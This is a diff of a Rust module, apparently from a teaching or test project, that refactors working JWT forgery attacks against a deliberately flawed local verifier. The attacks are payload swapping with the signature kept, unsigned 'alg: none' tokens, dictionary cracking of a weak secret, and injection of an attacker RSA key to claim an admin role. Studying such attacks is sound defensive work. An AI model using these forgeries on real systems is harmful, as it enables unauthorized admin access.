@@ -2,8 +2,11 @@
 //! Every one really runs: the dictionary attack searches the shipped
 //! wordlist, the key-injection attacks sign with a key made here.
 
-use super::naive::{Flaw, NaiveVerifier, WORDLIST};
-use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine};
+use super::{
+    encode_part,
+    naive::{Flaw, NaiveVerifier, WORDLIST},
+    RsaKeyPair,
+};
 use jsonwebtoken::{jwk::Jwk, Algorithm, DecodingKey, EncodingKey, Header, Validation};
 use serde_json::{json, Value};
 
@@ -21,19 +24,17 @@ pub struct AttackerKeys {
 
 impl AttackerKeys {
     pub fn new() -> anyhow::Result<Self> {
-        use rsa::{pkcs1::EncodeRsaPrivateKey, traits::PublicKeyParts};
-
-        let private = rsa::RsaPrivateKey::new(&mut rsa::rand_core::OsRng, 1024)?;
+        let keys = RsaKeyPair::generate()?;
         let public_jwk = json!({
             "kty": "RSA",
             "use": "sig",
             "alg": "RS256",
             "kid": "attacker",
-            "n": URL_SAFE_NO_PAD.encode(private.n().to_bytes_be()),
-            "e": URL_SAFE_NO_PAD.encode(private.e().to_bytes_be()),
+            "n": keys.n,
+            "e": keys.e,
         });
         Ok(AttackerKeys {
-            private_der: private.to_pkcs1_der()?.as_bytes().to_vec(),
+            private_der: keys.private_der,
             public_jwk,
         })
     }
@@ -72,8 +73,23 @@ impl Forged {
     }
 }
 
-fn encode_part(value: &Value) -> String {
-    URL_SAFE_NO_PAD.encode(value.to_string())
+/// `token` with `payload` written in, its header and signature kept.
+pub fn swap_payload(token: &str, payload: &Value) -> String {
+    let parts: Vec<&str> = token.split('.').collect();
+    let (header, signature) = (
+        parts.first().copied().unwrap_or(""),
+        parts.get(2).copied().unwrap_or(""),
+    );
+    format!("{header}.{}.{signature}", encode_part(payload))
+}
+
+/// A token with `alg: none` and no signature.
+pub fn unsigned(payload: &Value) -> String {
+    format!(
+        "{}.{}.",
+        encode_part(&json!({"alg": "none", "typ": "JWT"})),
+        encode_part(payload)
+    )
 }
 
 /// `claims` with `role: admin`.
@@ -111,16 +127,10 @@ pub fn forge(flaw: Flaw, naive: &NaiveVerifier, attacker: &AttackerKeys, claims:
     };
     let forged = match flaw {
         Flaw::DecodeOnly => {
-            // The payload changed, the signature kept.
             let own = naive.issue(flaw, claims)?;
-            let parts: Vec<&str> = own.split('.').collect();
-            Forged::token(format!("{}.{}.{}", parts[0], encode_part(&admin), parts[2]))
+            Forged::token(swap_payload(&own, &admin))
         }
-        Flaw::AlgNone => Forged::token(format!(
-            "{}.{}.",
-            encode_part(&json!({"alg": "none", "typ": "JWT"})),
-            encode_part(&admin)
-        )),
+        Flaw::AlgNone => Forged::token(unsigned(&admin)),
         Flaw::WeakSecret => {
             let own = naive.issue(flaw, claims)?;
             let (secret, words_tried) = crack(&own);
